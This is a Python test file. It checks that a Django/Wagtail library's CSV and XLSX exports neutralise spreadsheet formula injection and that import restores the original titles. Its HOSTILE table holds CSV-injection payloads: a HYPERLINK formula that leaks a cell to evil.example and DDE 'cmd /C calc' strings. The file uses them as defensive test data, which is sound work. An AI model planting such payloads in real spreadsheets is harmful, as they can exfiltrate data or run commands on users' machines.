"""Exported spreadsheets never carry a live formula (OWASP's CSV-injection rule): a text cell that
begins with =, +, -, @, a tab or a carriage return gets an apostrophe before it in CSV and XLSX,
XLSX cells are strings, never formulas, and the import takes the apostrophe off again."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from wagtail.models import Locale

from home import spreadsheets
from library import importer, report_views
from library.models import ProductPage
from tests.accounts import sign_in
from tests.factories import library

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Báo cáo")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture
def hostile(seeded):
    return {
        name: library.product(title=f"{value} sản phẩm {name}", conventions=("CRC",))
        for name, value in HOSTILE.items()
    }


def _csv(client, path):
    body = b"".join(client.get(path).streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def test_neutral_follows_owasp():
    for value in HOSTILE.values():
        assert spreadsheets.neutral(value) == "'" + value
        assert spreadsheets.restored(spreadsheets.neutral(value)) == value
    for harmless in ("Báo cáo", "2026-01-05", "'quoted", "a=b", ""):
        assert spreadsheets.neutral(harmless) == harmless
    assert spreadsheets.neutral(-5) == -5 and spreadsheets.neutral(None) is None  # numbers are numbers


def test_the_csv_export_neutralises_formula_cells(client, hostile):
    titles = {row["title"] for row in _csv(client, "/vi/library/export/csv/?convention=crc")}
    for name, value in HOSTILE.items():
        assert f"'{value} sản phẩm {name}" in titles, name
    assert not any(title.startswith(spreadsheets.FORMULA_START) for title in titles)


def test_the_xlsx_export_stores_no_formula(client, hostile):
    content = client.get("/vi/library/export/xlsx/?convention=crc").content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    sheet = load_workbook(io.BytesIO(content)).active  # not read-only: formulas would show as such
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("title")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    titles = {cell.value for cell in cells}
    for name, value in HOSTILE.items():
        assert f"'{value} sản phẩm {name}" in titles, name


def test_an_exported_file_imports_back_with_the_titles_it_had(client, hostile):
    exported = b"".join(client.get("/vi/library/export/csv/?convention=crc").streaming_content)
    report = importer.commit(
        importer.read_rows("export.csv", exported), Locale.objects.get(language_code="vi")
    )
    assert report.ok, report.problems
    for name, product in hostile.items():
        latest = ProductPage.objects.get(pk=product.pk).get_latest_revision_as_object()
        assert (
            latest.title == f"{HOSTILE[name]} sản phẩm {name}".replace("\t", " ").replace("\r", " ").strip()
        )


def test_admin_report_exports_neutralise_too(seeded):
    table = (
        "Sản phẩm theo tổ chức",
        ["Tổ chức", "Sản phẩm"],
        [(HOSTILE["="], 3), ("@cmd", 1), ("Báo An Giang", 2)],
    )
    rows = list(csv.reader(io.StringIO(report_views._export(table, "csv", "r").content.decode("utf-8-sig"))))
    assert rows[1:] == [["'" + HOSTILE["="], "3"], ["'@cmd", "1"], ["Báo An Giang", "2"]]
    xlsx = report_views._export(table, "xlsx", "r").content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as package:
        assert not any(
            b"<f>" in package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/")
        )
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert [cell.value for cell in sheet["A"]][1:3] == ["'" + HOSTILE["="], "'@cmd"]
    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"  # numbers stay numbers


def test_the_translations_report_export_neutralises(hostile):
    client = Client()
    sign_in(client, get_user_model().objects.create_superuser("tr", "tr@example.org", "a-long-test-password"))
    response = client.get(reverse("translations_report"), {"export": "csv"})
    assert response.status_code == 200, response.status_code
    body = response.getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    titles = [row[0] for row in rows[1:]]
    assert any(title.startswith("'=HYPERLINK(") for title in titles)
    assert not any(cell.startswith(spreadsheets.FORMULA_START) for row in rows for cell in row)
